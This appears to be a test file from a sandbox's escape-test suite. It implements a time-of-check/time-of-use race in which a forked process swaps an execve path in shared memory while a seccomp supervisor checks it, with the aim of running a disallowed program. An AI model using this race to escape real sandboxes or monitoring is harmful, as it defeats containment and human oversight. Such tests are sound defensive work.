"""Swap the program's path in memory while the host looks at an execve."""

import ctypes
import mmap
import os
import time

from tests.escape.grants import readable_tool_and_other_program, run_tool
from tests.escape.technique import LANDLOCK_SILENT, Granted, Technique, silent


def attack(world):
    paths = (b"/bin/true\0".ljust(200, b"\0"), os.fsencode(world.tool).ljust(200, b"\0"))
    # shared with the children, so that the swap is seen while the call is being decided
    buffer = mmap.mmap(-1, 4096)
    address = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
    flipper = world.fork()
    while flipper == 0:
        for path in paths:
            ctypes.memmove(address, path, 200)
    argv = (ctypes.c_char_p * 4)(b"tool", b"ESCAPED:", b"race", None)
    libc = ctypes.PyDLL(None)

    def run(path):
        child = libc.fork()
        if child == 0:
            libc.execve(path, argv, None)
            libc._exit(1)
        if child > 0:
            os.waitpid(child, 0)

    stop = time.monotonic() + 0.25 * world.slowness
    while time.monotonic() < stop:
        run(ctypes.c_void_p(address))
    if flipper > 0:
        os.kill(flipper, 9)
        os.waitpid(flipper, 0)
    run(paths[1])  # the race may have had no time: this one is refused for sure


TECHNIQUE = Technique(
    source="seccomp_unotify(2): CONTINUE is no security decision on pointers",
    policy=readable_tool_and_other_program,
    event=("process.exec",),
    stops=("landlock", "root view"),
    ends=("CPUExceeded", "TimeoutError"),
    control=Granted(run_tool),
    thread=silent(LANDLOCK_SILENT),
)
